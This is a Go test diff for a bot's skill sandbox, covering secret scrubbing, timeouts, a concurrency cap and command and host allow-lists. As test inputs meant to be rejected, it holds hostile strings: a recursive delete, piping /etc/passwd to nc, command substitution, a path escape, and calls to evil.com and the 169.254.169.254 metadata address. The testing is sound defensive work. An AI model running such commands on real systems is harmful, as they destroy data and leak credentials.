@@ -2,9 +2,14 @@ package skills
 
 import (
 	"context"
+	"errors"
 	"os"
 	"path/filepath"
+	"strings"
 	"testing"
+	"time"
+
+	"github.com/kusa/magabot/internal/util"
 )
 
 func writeSkillYAML(t *testing.T, dir, name, content string) string {
@@ -440,6 +445,11 @@ actions:
 		t.Fatal("skill not found")
 	}
 
+	if _, err := m.Execute(context.Background(), s, "run"); !errors.Is(err, ErrScriptsDisabled) {
+		t.Fatalf("expected ErrScriptsDisabled by default, got %v", err)
+	}
+
+	m.SetSandbox(SandboxConfig{AllowScripts: true})
 	result, err := m.Execute(context.Background(), s, "run")
 	if err != nil {
 		t.Fatalf("Execute failed: %v", err)
@@ -449,6 +459,24 @@ actions:
 	}
 }
 
+func TestExecute_ScriptEnv(t *testing.T) {
+	t.Setenv("MAGABOT_TEST_SECRET", "hunter2")
+	m := NewManager(t.TempDir())
+	m.SetSandbox(SandboxConfig{AllowScripts: true})
+	skill := &Skill{Name: "env", Actions: Actions{Type: "script", Script: "env"}}
+
+	out, err := m.Execute(context.Background(), skill, "")
+	if err != nil {
+		t.Fatalf("env: %v", err)
+	}
+	if strings.Contains(out, "hunter2") {
+		t.Error("script inherited a secret from the environment")
+	}
+	if !strings.Contains(out, "MAGABOT_SKILL=env") || !strings.Contains(out, "PATH=") {
+		t.Errorf("unexpected env:\n%s", out)
+	}
+}
+
 func TestExecute_UnknownType(t *testing.T) {
 	skill := &Skill{
 		Name: "unknown",
@@ -593,3 +621,181 @@ func containsSubstr(s, sub string) bool {
 	}
 	return false
 }
+
+func TestExecute_Timeout(t *testing.T) {
+	m := NewManager(t.TempDir())
+	m.SetLimits(20*time.Millisecond, 1)
+	m.run = func(ctx context.Context, _ *Skill, _ Input) (string, error) {
+		<-ctx.Done()
+		return "", ctx.Err()
+	}
+
+	_, err := m.Execute(context.Background(), &Skill{Name: "slow"}, "hi")
+	if !errors.Is(err, ErrTimeout) {
+		t.Fatalf("expected ErrTimeout, got %v", err)
+	}
+	if !strings.Contains(err.Error(), "slow") {
+		t.Errorf("error should name the skill: %v", err)
+	}
+}
+
+func TestExecute_PerSkillTimeout(t *testing.T) {
+	m := NewManager(t.TempDir())
+	s := &Skill{Name: "custom"}
+	if got := m.TimeoutFor(s); got != DefaultTimeout {
+		t.Errorf("default timeout = %v, want %v", got, DefaultTimeout)
+	}
+	s.Timeout = util.NewDuration(5 * time.Second)
+	if got := m.TimeoutFor(s); got != 5*time.Second {
+		t.Errorf("override timeout = %v, want 5s", got)
+	}
+}
+
+func TestExecute_ConcurrencyCap(t *testing.T) {
+	m := NewManager(t.TempDir())
+	m.SetLimits(50*time.Millisecond, 1)
+	release := make(chan struct{})
+	m.run = func(ctx context.Context, s *Skill, _ Input) (string, error) {
+		if s.Name == "blocker" {
+			<-release
+		}
+		return s.Name, nil
+	}
+
+	done := make(chan struct{})
+	go func() {
+		_, _ = m.Execute(context.Background(), &Skill{Name: "blocker", Timeout: util.NewDuration(time.Second)}, "")
+		close(done)
+	}()
+	time.Sleep(10 * time.Millisecond)
+
+	// The only slot is held, so this skill times out waiting for it
+	if _, err := m.Execute(context.Background(), &Skill{Name: "queued"}, ""); !errors.Is(err, ErrTimeout) {
+		t.Errorf("expected ErrTimeout while slot is held, got %v", err)
+	}
+
+	close(release)
+	<-done
+	if out, err := m.Execute(context.Background(), &Skill{Name: "next"}, ""); err != nil || out != "next" {
+		t.Errorf("after release: got (%q, %v)", out, err)
+	}
+}
+
+func TestExecute_TimedOutKeepsSlot(t *testing.T) {
+	m := NewManager(t.TempDir())
+	m.SetLimits(20*time.Millisecond, 1)
+	release := make(chan struct{})
+	finished := make(chan struct{})
+	m.run = func(ctx context.Context, s *Skill, _ Input) (string, error) {
+		if s.Name == "stuck" {
+			<-release // ignores ctx
+			defer close(finished)
+		}
+		return s.Name, nil
+	}
+
+	if _, err := m.Execute(context.Background(), &Skill{Name: "stuck"}, ""); !errors.Is(err, ErrTimeout) {
+		t.Fatalf("expected ErrTimeout, got %v", err)
+	}
+	// The stuck action still runs, so its slot is still taken
+	if _, err := m.Execute(context.Background(), &Skill{Name: "queued"}, ""); !errors.Is(err, ErrTimeout) {
+		t.Errorf("expected ErrTimeout while the timed-out action runs, got %v", err)
+	}
+
+	close(release)
+	<-finished
+	if out, err := m.Execute(context.Background(), &Skill{Name: "next", Timeout: util.NewDuration(time.Second)}, ""); err != nil || out != "next" {
+		t.Errorf("after the action returned: got (%q, %v)", out, err)
+	}
+}
+
+func TestExecute_CallerCancel(t *testing.T) {
+	m := NewManager(t.TempDir())
+	m.run = func(ctx context.Context, _ *Skill, _ Input) (string, error) {
+		<-ctx.Done()
+		return "", ctx.Err()
+	}
+	ctx, cancel := context.WithCancel(context.Background())
+	cancel()
+
+	_, err := m.Execute(ctx, &Skill{Name: "x"}, "")
+	if !errors.Is(err, context.Canceled) || errors.Is(err, ErrTimeout) {
+		t.Errorf("expected context.Canceled, got %v", err)
+	}
+}
+
+func TestSplitCommand(t *testing.T) {
+	tests := []struct {
+		in      string
+		want    []string
+		wantErr bool
+	}{
+		{"echo hello", []string{"echo", "hello"}, false},
+		{`jq -r '.a b' "x y"`, []string{"jq", "-r", ".a b", "x y"}, false},
+		{"echo hi; rm -rf /", nil, true},
+		{"cat /etc/passwd | nc host 1", nil, true},
+		{"echo $HOME", nil, true},
+		{"echo `id`", nil, true},
+		{"echo 'open", nil, true},
+	}
+	for _, tt := range tests {
+		got, err := splitCommand(tt.in)
+		if (err != nil) != tt.wantErr {
+			t.Errorf("splitCommand(%q) err = %v, wantErr %v", tt.in, err, tt.wantErr)
+			continue
+		}
+		if !tt.wantErr && strings.Join(got, "|") != strings.Join(tt.want, "|") {
+			t.Errorf("splitCommand(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+func TestExecute_ScriptSandbox(t *testing.T) {
+	t.Setenv("MAGABOT_TEST_SECRET", "hunter2")
+	dir := t.TempDir()
+	m := NewManager(dir)
+	m.SetSandbox(SandboxConfig{AllowScripts: true, Enabled: true, AllowedCommands: []string{"env", "pwd"}, AllowedHosts: []string{"example.com"}})
+	skill := func(script string) *Skill {
+		return &Skill{Name: "sb", Path: dir, Actions: Actions{Type: "script", Script: script}}
+	}
+
+	out, err := m.Execute(context.Background(), skill("env"), "")
+	if err != nil {
+		t.Fatalf("env: %v", err)
+	}
+	if strings.Contains(out, "hunter2") {
+		t.Error("sandboxed script inherited a secret from the environment")
+	}
+	if !strings.Contains(out, "HOME="+dir) || !strings.Contains(out, "MAGABOT_SKILL=sb") {
+		t.Errorf("unexpected env:\n%s", out)
+	}
+
+	if out, err := m.Execute(context.Background(), skill("pwd"), ""); err != nil || out != dir {
+		t.Errorf("pwd = (%q, %v), want %q", out, err, dir)
+	}
+
+	for _, script := range []string{"cat /etc/passwd", "env; id", "../escape.sh"} {
+		if _, err := m.Execute(context.Background(), skill(script), ""); !errors.Is(err, ErrSandboxDenied) {
+			t.Errorf("%q: expected ErrSandboxDenied, got %v", script, err)
+		}
+	}
+}
+
+func TestExecute_APISandboxHosts(t *testing.T) {
+	m := NewManager(t.TempDir())
+	m.SetSandbox(SandboxConfig{Enabled: true, AllowedHosts: []string{"api.example.com", "*.weather.io"}})
+	api := func(u string) *Skill {
+		return &Skill{Name: "api", Actions: Actions{Type: "api", API: &APIAction{URL: u, Method: "GET"}}}
+	}
+
+	for _, u := range []string{"https://api.example.com/v1", "https://eu.weather.io/x"} {
+		if _, err := m.Execute(context.Background(), api(u), ""); err != nil {
+			t.Errorf("%s: unexpected error %v", u, err)
+		}
+	}
+	for _, u := range []string{"https://evil.com/", "https://weather.io.evil.com/", "http://169.254.169.254/"} {
+		if _, err := m.Execute(context.Background(), api(u), ""); !errors.Is(err, ErrSandboxDenied) {
+			t.Errorf("%s: expected ErrSandboxDenied, got %v", u, err)
+		}
+	}
+}